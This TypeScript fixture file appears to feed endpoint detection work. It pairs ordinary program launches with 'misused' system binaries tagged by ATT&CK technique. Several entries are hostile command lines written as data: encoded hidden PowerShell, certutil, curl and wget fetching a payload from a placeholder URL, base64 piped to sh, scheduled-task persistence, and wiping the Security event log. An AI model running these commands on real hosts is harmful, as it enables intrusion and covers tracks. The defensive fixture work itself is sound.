/** A program that runs on endpoints, with a command line that is usual for it. */
export interface Program {
  readonly name: string;
  readonly folder: string;
  readonly command: string;
  readonly parent: string;
  readonly signer: string | null;
}

const windows = 'C:\\Windows\\System32\\';
const programs = 'C:\\Program Files\\';

/** Programs that everybody uses, by system. */
export const harmless = {
  windows: [
    program('svchost.exe', windows, '-k netsvcs -p', 'services.exe', 'Windows'),
    program('explorer.exe', 'C:\\Windows\\', '', 'userinit.exe', 'Windows'),
    program('conhost.exe', windows, '0xffffffff -ForceV1', 'cmd.exe', 'Windows'),
    program('browser.exe', `${programs}Browser\\`, '--type=renderer --lang=en', 'explorer.exe', 'Browser Project'),
    program('mail.exe', `${programs}Mail\\`, '/recycle', 'explorer.exe', 'Office Software Inc.'),
    program('sheet.exe', `${programs}Office\\`, '/dde', 'explorer.exe', 'Office Software Inc.'),
    program('meet.exe', `${programs}Meet\\`, '--background', 'explorer.exe', 'Meet Software Inc.'),
    program('lensdesign.exe', `${programs}Optics\\`, '--project lens.opx', 'explorer.exe', 'Halden Optics AS'),
    program('backup.exe', `${programs}Backup\\`, 'run --profile daily', 'services.exe', 'Brightline Tools'),
  ],
  mac: [
    program('launchd', '/sbin/', '', 'kernel_task', 'macOS'),
    program('Browser', '/Applications/Browser.app/Contents/MacOS/', '--type=renderer', 'launchd', 'Browser Project'),
    program('mdworker', '/System/Library/Frameworks/', '-s mdworker', 'launchd', 'macOS'),
    program('Meet', '/Applications/Meet.app/Contents/MacOS/', '', 'launchd', 'Meet Software Inc.'),
  ],
  linux: [
    program('systemd', '/usr/lib/systemd/', '--user', 'systemd', null),
    program('nginx', '/usr/sbin/', '-g "daemon off;"', 'systemd', null),
    program('python3', '/usr/bin/', '/opt/optics/batch.py --size 200', 'cron', null),
    program('sshd', '/usr/sbin/', '-D', 'systemd', null),
    program('postgres', '/usr/lib/postgresql/16/bin/', '-D /var/lib/postgresql', 'systemd', null),
  ],
} as const;

/** Programs of the system that attackers use, by technique. `%` is replaced by a URL. */
export const misused = {
  windows: [
    [
      'T1059.001',
      program('powershell.exe', windows, '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'sheet.exe', 'Windows'),
    ],
    ['T1105', program('certutil.exe', windows, '-urlcache -split -f % C:\\Users\\Public\\u.dat', 'cmd.exe', 'Windows')],
    ['T1218.011', program('rundll32.exe', windows, 'C:\\ProgramData\\u.dll,Start', 'explorer.exe', 'Windows')],
    ['T1053.005', program('schtasks.exe', windows, '/create /sc minute /tn Updater /tr u.exe', 'cmd.exe', 'Windows')],
    ['T1087.002', program('net.exe', windows, 'group "Domain Admins" /domain', 'cmd.exe', 'Windows')],
    ['T1070.001', program('wevtutil.exe', windows, 'cl Security', 'powershell.exe', 'Windows')],
  ],
  mac: [
    ['T1105', program('curl', '/usr/bin/', '-fsSL % -o /tmp/.u', 'bash', 'macOS')],
    ['T1059.004', program('osascript', '/usr/bin/', '-e "do shell script \\"sh /tmp/.u\\""', 'launchd', 'macOS')],
  ],
  linux: [
    ['T1105', program('wget', '/usr/bin/', '-q % -O /dev/shm/.u', 'sh', null)],
    ['T1059.004', program('bash', '/usr/bin/', '-c "echo Y3VybA== | base64 -d | sh"', 'nginx', null)],
    ['T1046', program('nmap', '/usr/bin/', '-sS -p- 10.31.8.0/24', 'bash', null)],
  ],
} as const;

/** A program's file with its folder. */
export function pathOf({ folder, name }: Program): string {
  return folder + name;
}

function program(name: string, folder: string, command: string, parent: string, signer: string | null): Program {
  return { name, folder, command, parent, signer };
}
